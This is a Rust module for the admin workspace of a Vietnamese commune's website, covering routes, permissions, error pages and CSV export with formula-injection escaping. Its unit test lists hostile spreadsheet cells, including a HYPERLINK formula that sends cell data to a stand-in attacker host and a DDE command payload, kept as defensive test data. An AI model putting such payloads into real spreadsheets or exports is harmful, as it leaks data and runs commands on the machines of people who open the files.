//! The board's workspace at `/quan-tri` on the commune's own site: sign-in,
//! the dashboard of what waits, the items and their workflow, the board's
//! accounts. Every page is for signed-in members only, never cached, and
//! every form carries the session's CSRF token.

// Handlers return early with the response to send (a redirect to sign in, a
// refusal); that response is the `Err` of small helpers, by design.
#![allow(clippy::result_large_err)]

mod access_info;
mod audit;
mod budget;
mod citizens;
mod consultations;
mod corrections;
mod dashboard;
mod documents;
mod files;
mod home_blocks;
mod item_forms;
mod items;
mod links;
mod list_editor;
mod look;
mod members;
mod menu;
mod procedures;
mod projects;
mod recovery;
mod schedule;
mod security;
mod session;
mod settings;
mod statistics;
mod templates;
mod yearly_report;

use axum::Router;
use axum::extract::DefaultBodyLimit;
use axum::http::{HeaderValue, StatusCode, header};
use axum::middleware;
use axum::response::{IntoResponse, Redirect, Response};
use congxa_board::accounts::Account;
use congxa_board::{BoardError, Need, Permission};
use congxa_web::body_limit;
use congxa_web::routes::{Declared, Routes};
use minijinja::Environment;
use serde::Serialize;

use crate::AppState;
use crate::site::params::Params;

const TEMPLATES: [(&str, &str); 34] = [
    ("templates.html", include_str!("../../admin/templates.html")),
    ("template.html", include_str!("../../admin/template.html")),
    ("look.html", include_str!("../../admin/look.html")),
    ("menu.html", include_str!("../../admin/menu.html")),
    (
        "list_editor.html",
        include_str!("../../admin/list_editor.html"),
    ),
    (
        "home_blocks.html",
        include_str!("../../admin/home_blocks.html"),
    ),
    (
        "yearly_report.html",
        include_str!("../../admin/yearly_report.html"),
    ),
    (
        "statistics.html",
        include_str!("../../admin/statistics.html"),
    ),
    (
        "access_info.html",
        include_str!("../../admin/access_info.html"),
    ),
    ("links.html", include_str!("../../admin/links.html")),
    (
        "target_intro.html",
        include_str!("../../admin/target_intro.html"),
    ),
    (
        "target_button.html",
        include_str!("../../admin/target_button.html"),
    ),
    ("project.html", include_str!("../../admin/project.html")),
    (
        "consultation.html",
        include_str!("../../admin/consultation.html"),
    ),
    ("budget.html", include_str!("../../admin/budget.html")),
    ("schedule.html", include_str!("../../admin/schedule.html")),
    ("procedure.html", include_str!("../../admin/procedure.html")),
    ("settings.html", include_str!("../../admin/settings.html")),
    ("one_stop.html", include_str!("../../admin/one_stop.html")),
    ("security.html", include_str!("../../admin/security.html")),
    ("forgot.html", include_str!("../../admin/forgot.html")),
    ("reset.html", include_str!("../../admin/reset.html")),
    ("document.html", include_str!("../../admin/document.html")),
    ("files.html", include_str!("../../admin/files.html")),
    ("revisions.html", include_str!("../../admin/revisions.html")),
    ("audit.html", include_str!("../../admin/audit.html")),
    ("citizens.html", include_str!("../../admin/citizens.html")),
    ("layout.html", include_str!("../../admin/layout.html")),
    ("sign_in.html", include_str!("../../admin/sign_in.html")),
    ("password.html", include_str!("../../admin/password.html")),
    ("dashboard.html", include_str!("../../admin/dashboard.html")),
    ("items.html", include_str!("../../admin/items.html")),
    ("item.html", include_str!("../../admin/item.html")),
    ("members.html", include_str!("../../admin/members.html")),
];

/// Parses the workspace's templates once.
pub fn templates() -> anyhow::Result<Environment<'static>> {
    let mut env = Environment::new();
    env.add_filter("ngay_gio", |v: &str| {
        time::OffsetDateTime::parse(v, &time::format_description::well_known::Rfc3339)
            .map(congxa_locale::time::date_and_time)
            .unwrap_or_else(|_| v.to_owned())
    });
    for (name, source) in TEMPLATES {
        env.add_template(name, source)?;
    }
    Ok(env)
}

/// The workspace's routes, each group reading its forms within the limit
/// its content needs (`congxa_web::body_limit`): an item's text up to the
/// 1 MB the editor promises, a template's source, every other form small.
pub fn router(state: &AppState) -> Router<AppState> {
    let limit = |bytes: usize| middleware::from_fn_with_state(bytes, body_limit::within);
    // The forms sent before signing in, limited per client address.
    let before_sign_in = crate::throttle::Guarded {
        throttle: state.sign_in_throttle.clone(),
        routes: &[
            "/quan-tri/dang-nhap",
            "/quan-tri/quen-mat-khau",
            "/quan-tri/dat-lai-mat-khau",
        ],
    };
    forms()
        .router()
        .route_layer(middleware::from_fn_with_state(
            before_sign_in,
            crate::throttle::limit_routes,
        ))
        .route_layer(limit(body_limit::FORM_BYTES))
        .merge(
            texts()
                .router()
                .route_layer(limit(body_limit::ITEM_FORM_BYTES)),
        )
        .merge(
            template_sources()
                .router()
                .route_layer(limit(body_limit::TEMPLATE_FORM_BYTES)),
        )
        // An address the workspace does not have: its own page, not the
        // public site's (a catch-all route, as a nested fallback would lose
        // to the site's own catch-all).
        .route(
            "/{*rest}",
            axum::routing::any(|| async {
                congxa_web::notice_page(
                    StatusCode::NOT_FOUND,
                    "Không tìm thấy trang",
                    "Trang bạn tìm không có trong trang quản trị. Mời quay về trang quản trị.",
                )
            }),
        )
        // The groups' own limits apply; the extractors need not cut again.
        .layer(DefaultBodyLimit::max(body_limit::WORKSPACE_BYTES))
}

/// Every route of the workspace (relative to `/quan-tri`) and who may use it.
pub fn routes() -> Vec<Declared<Need>> {
    [forms(), texts(), template_sources()]
        .into_iter()
        .flat_map(Routes::declared)
        .collect()
}

type Table = Routes<AppState, Need>;

const CREATE: Need = Need::Capability(Permission::Create);
/// Editing an item, and moving it through the workflow: contributors only
/// their own drafts, members what they wrote or were assigned (the
/// workflow decides what is one's own, and which move needs what).
const EDIT: Need = Need::Capability(Permission::Edit);
const PUBLISH: Need = Need::Capability(Permission::Publish);
const USERS: Need = Need::Capability(Permission::ManageUsers);
const SETTINGS: Need = Need::Capability(Permission::ChangeSettings);

/// Forms that carry an item's text, an answer or a report: long texts.
/// Contributors send articles only, through the simple form; the forms of
/// documents, projects and the like are the board's.
fn texts() -> Table {
    Routes::new()
        .get("/tin-bai/moi", CREATE, items::new_form)
        .post("/tin-bai/moi", CREATE, items::create)
        .get("/tin-bai/{id}", Need::SignedIn, items::show)
        .post("/tin-bai/{id}", EDIT, items::save)
        .post("/tin-bai/{id}/thao-tac", EDIT, items::act)
        .get("/tin-bai/{id}/thong-tin", EDIT, corrections::form)
        .post("/tin-bai/{id}/thong-tin", EDIT, corrections::save)
        .get(
            "/tiep-can-thong-tin/moi",
            Need::Board,
            access_info::new_form,
        )
        .post("/tiep-can-thong-tin/moi", Need::Board, access_info::create)
        .get("/van-ban/moi", Need::Board, documents::new_form)
        .post("/van-ban/moi", Need::Board, documents::create)
        .get("/ngan-sach/moi", Need::Board, budget::new_form)
        .post("/ngan-sach/moi", Need::Board, budget::create)
        .get("/du-an/moi", Need::Board, projects::new_form)
        .post("/du-an/moi", Need::Board, projects::create)
        .get("/lay-y-kien/moi", Need::Board, consultations::new_form)
        .post("/lay-y-kien/moi", Need::Board, consultations::create)
        .get("/lich-cong-tac/moi", Need::Board, schedule::new_form)
        .post("/lich-cong-tac/moi", Need::Board, schedule::create)
        .get("/thu-tuc/moi", Need::Board, procedures::new_form)
        .post("/thu-tuc/moi", Need::Board, procedures::create)
        .post("/hoi-dap/{id}", PUBLISH, citizens::answer)
        .post("/bao-cao-nam/{year}", SETTINGS, yearly_report::save)
}

/// A template's source: the longest form but an item's text.
fn template_sources() -> Table {
    Routes::new()
        .get("/giao-dien/mau/{name}", SETTINGS, templates::edit)
        .post("/giao-dien/mau/{name}", SETTINGS, templates::change)
}

/// Every other page and form of the workspace.
fn forms() -> Table {
    use list_editor::{change, page};
    type Menu = menu::Menu;
    type HomeBlocks = home_blocks::HomeBlocks;
    Routes::new()
        .get("/", Need::SignedIn, dashboard::page)
        .get("/dang-nhap", Need::Anyone, session::sign_in_form)
        .post("/dang-nhap", Need::Anyone, session::sign_in)
        .post("/dang-xuat", Need::SignedIn, session::sign_out)
        .get("/mat-khau", Need::SignedIn, session::password_form)
        .post("/mat-khau", Need::SignedIn, session::change_password)
        // An operator's one-time link: it makes the session.
        .get("/ho-tro", Need::Anyone, session::enter_support)
        .get("/cai-dat", SETTINGS, settings::page)
        .post("/cai-dat", SETTINGS, settings::save_profile)
        .post("/cai-dat/can-bo", SETTINGS, settings::save_official)
        .post(
            "/cai-dat/can-bo/{id}/xoa",
            SETTINGS,
            settings::remove_official,
        )
        .get("/mot-cua", PUBLISH, settings::one_stop)
        .post("/mot-cua", PUBLISH, settings::record_month)
        .get("/bao-mat", Need::SignedIn, security::page)
        .post("/bao-mat/bat", Need::SignedIn, security::enable)
        .post("/bao-mat/tat", Need::SignedIn, security::disable)
        .get("/quen-mat-khau", Need::Anyone, recovery::forgot_form)
        .post("/quen-mat-khau", Need::Anyone, recovery::forgot)
        .get("/dat-lai-mat-khau", Need::Anyone, recovery::reset_form)
        .post("/dat-lai-mat-khau", Need::Anyone, recovery::reset)
        .get("/tin-bai", Need::SignedIn, items::list)
        .get("/tin-bai/{id}/phien-ban", Need::SignedIn, items::revisions)
        .get("/tin-bai/{id}/xem-truoc", Need::SignedIn, items::preview)
        .post("/tin-bai/{id}/phien-ban/{revision}", EDIT, items::restore)
        .get("/lien-ket", SETTINGS, links::page)
        .post("/lien-ket", SETTINGS, links::add)
        .post("/lien-ket/{id}", SETTINGS, links::change)
        .get("/giao-dien", SETTINGS, look::page)
        .post("/giao-dien", SETTINGS, look::save)
        .post("/giao-dien/xem-truoc", SETTINGS, look::preview)
        .get("/giao-dien/trinh-don", SETTINGS, page::<Menu>)
        .post("/giao-dien/trinh-don", SETTINGS, change::<Menu>)
        .get("/giao-dien/trang-chu", SETTINGS, page::<HomeBlocks>)
        .post("/giao-dien/trang-chu", SETTINGS, change::<HomeBlocks>)
        .get("/giao-dien/mau", SETTINGS, templates::list)
        .get("/nhat-ky", USERS, audit::page)
        .get("/thong-ke", Need::Board, statistics::page)
        .get("/thong-ke/nam/{year}", Need::Board, statistics::yearly)
        .get("/bao-cao-nam", Need::Board, yearly_report::page)
        .post(
            "/bao-cao-nam/{year}/ban-hanh",
            SETTINGS,
            yearly_report::issue,
        )
        .get(
            "/bao-cao-nam/{year}/{file}",
            Need::Board,
            yearly_report::download,
        )
        .get("/tep", Need::SignedIn, files::list)
        // Deleting a file; an image's description needs only `Create`.
        .post("/tep/{id}", PUBLISH, files::change)
        .get("/tep/anh.json", Need::SignedIn, files::images)
        .get("/tai-len.js", Need::Anyone, files::script)
        .get("/bien-tap.js", Need::Anyone, files::editor_script)
        .get("/hoi-dap", PUBLISH, citizens::inbox)
        .post("/gop-y/{id}", PUBLISH, citizens::moderate)
        .get("/thanh-vien", USERS, members::list)
        .post("/thanh-vien", USERS, members::create)
        .post(
            "/thanh-vien/{id}/dat-lai-mat-khau",
            USERS,
            members::reset_password,
        )
        .post("/thanh-vien/{id}/khoa", USERS, members::set_active)
}

/// What every workspace page's layout uses.
#[derive(Serialize)]
struct Frame<'a, T: Serialize> {
    title: &'a str,
    account: Option<&'a Account>,
    role_name: &'a str,
    csrf: &'a str,
    message: Option<&'a str>,
    error: Option<&'a str>,
    /// The reason of an operator's support session, shown on every page.
    support: Option<&'a str>,
    #[serde(flatten)]
    page: T,
}

/// Renders a workspace page; never cached anywhere.
fn render<T: Serialize>(
    state: &AppState,
    status: StatusCode,
    template: &str,
    frame: Frame<'_, T>,
) -> Response {
    crate::private_page::render(&state.admin, status, template, frame)
}

/// Records a change made in the workspace (accounts, the site's
/// particulars) in the platform's audit log, where the head's log page and
/// operators see it.
async fn record_change(
    conn: &mut sqlx::PgConnection,
    member: &session::Member,
    action: &str,
    details: serde_json::Value,
) -> Result<(), BoardError> {
    let actor = congxa_tenancy::audit::Actor {
        name: format!("{} <{}>", member.account.name, member.account.email),
        origin: "trang quản trị".to_owned(),
    };
    congxa_tenancy::audit::record(conn, &actor, action, Some(member.tenant.id), details).await?;
    Ok(())
}

/// Refuses a member who may not change the site's settings (its look, its
/// templates).
fn may_change_settings(member: &session::Member) -> Result<(), Response> {
    if member
        .account
        .role
        .may(congxa_board::Permission::ChangeSettings)
    {
        Ok(())
    } else {
        Err(board_error(BoardError::Forbidden))
    }
}

/// A form that changes the site's settings, read once the member may send
/// it (the role, then the form's CSRF token).
fn settings_form(member: &session::Member, body: &[u8]) -> Result<Params, Response> {
    may_change_settings(member)?;
    let form = Params::parse_body(body);
    member.check(&form)?;
    Ok(form)
}

fn see_other(path: &str) -> Response {
    Redirect::to(path).into_response()
}

/// After a refused submission: `Ok` with the reason to show on the form
/// again (with what was typed), or `Err` with the page to answer when the
/// request cannot go on (not allowed, not found, a fault of ours).
fn refusal(error: BoardError) -> Result<String, Response> {
    if error.is_input() && !matches!(error, BoardError::Forbidden | BoardError::RecordNotFound) {
        Ok(error.to_string())
    } else {
        Err(board_error(error))
    }
}

/// A board error as the page a person sees: their mistake explained, or
/// our fault logged.
fn board_error(error: BoardError) -> Response {
    let status = match &error {
        BoardError::Forbidden => StatusCode::FORBIDDEN,
        BoardError::ItemNotFound | BoardError::AccountNotFound | BoardError::RecordNotFound => {
            StatusCode::NOT_FOUND
        }
        BoardError::Conflict | BoardError::WrongState | BoardError::DuplicateEmail => {
            StatusCode::CONFLICT
        }
        BoardError::Database(_) => {
            return congxa_web::ApiError::unavailable(
                "database_unavailable",
                "Cơ sở dữ liệu tạm thời không truy cập được. Vui lòng thử lại sau.",
            )
            .with_source(error)
            .into_page();
        }
        _ => StatusCode::UNPROCESSABLE_ENTITY,
    };
    congxa_web::notice_page(status, "Không thực hiện được", &error.to_string())
}

/// A table as a CSV download for a spreadsheet: UTF-8 with a byte-order
/// mark, which Excel needs to read Vietnamese correctly; never cached.
fn csv_download<I, R>(filename: &'static str, header: &[&str], rows: I) -> Response
where
    I: IntoIterator<Item = R>,
    R: IntoIterator,
    R::Item: AsRef<[u8]>,
{
    let bytes = csv_bytes(header, rows);
    match bytes {
        Ok(bytes) => {
            let disposition = format!("attachment; filename=\"{filename}\"");
            let mut response = (StatusCode::OK, bytes).into_response();
            let headers = response.headers_mut();
            headers.insert(
                header::CONTENT_TYPE,
                HeaderValue::from_static("text/csv; charset=utf-8"),
            );
            if let Ok(value) = HeaderValue::from_str(&disposition) {
                headers.insert(header::CONTENT_DISPOSITION, value);
            }
            headers.insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
            response
        }
        Err(error) => congxa_web::ApiError::internal(error).into_page(),
    }
}

/// The CSV itself, every cell made safe for a spreadsheet.
fn csv_bytes<I, R>(header: &[&str], rows: I) -> Result<Vec<u8>, csv::Error>
where
    I: IntoIterator<Item = R>,
    R: IntoIterator,
    R::Item: AsRef<[u8]>,
{
    let mut writer = csv::Writer::from_writer(vec![0xEF, 0xBB, 0xBF]);
    writer.write_record(header.iter().map(|cell| not_a_formula(cell.as_bytes())))?;
    for row in rows {
        let row: Vec<R::Item> = row.into_iter().collect();
        writer.write_record(row.iter().map(|cell| not_a_formula(cell.as_ref())))?;
    }
    writer.flush()?;
    writer.into_inner().map_err(|e| e.into_error().into())
}

/// A cell that Excel or LibreOffice would read as a formula (it starts with
/// `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading
/// apostrophe, as OWASP advises: what anyone typed into a title, a name or
/// a comment (`=HYPERLINK(…)`) shows as text and runs nothing. Every column
/// goes through here: the figures written (counts, dates) never start with
/// a sign, so no number is changed.
/// Spaces and unseen characters before the sign (a byte-order mark, a
/// direction mark) are looked past: a spreadsheet may drop them.
fn not_a_formula(cell: &[u8]) -> std::borrow::Cow<'_, [u8]> {
    let text = String::from_utf8_lossy(cell);
    let first = text.chars().find(|c| {
        matches!(c, '\t' | '\r') || !(c.is_whitespace() || congxa_site::write::is_unseen(*c))
    });
    match first {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => {
            let mut escaped = Vec::with_capacity(cell.len() + 1);
            escaped.push(b'\'');
            escaped.extend_from_slice(cell);
            std::borrow::Cow::Owned(escaped)
        }
        _ => std::borrow::Cow::Borrowed(cell),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read_back(bytes: &[u8]) -> Vec<Vec<String>> {
        let body = bytes.strip_prefix(&[0xEF, 0xBB, 0xBF]).unwrap();
        csv::Reader::from_reader(body)
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    #[test]
    fn a_cell_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text() {
        let hostile = [
            r#"=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")"#,
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1,1)",
            "\t=1+1",
            "\r=1+1",
            "\u{feff}=1+1",
            "\u{202e}@SUM(1,1)",
            " =1+1",
        ];
        let rows = hostile.iter().map(|cell| [*cell, "Tin tức xã", "12"]);
        let bytes = csv_bytes(&["Đối tượng", "Chuyên mục", "Lượt xem"], rows).unwrap();
        let read = read_back(&bytes);
        assert_eq!(read.len(), hostile.len());
        for (row, cell) in read.iter().zip(hostile) {
            assert_eq!(row[0], format!("'{cell}"));
            assert_eq!(row[1], "Tin tức xã", "text is kept as it is");
            assert_eq!(row[2], "12", "figures are kept as they are");
        }
    }
}
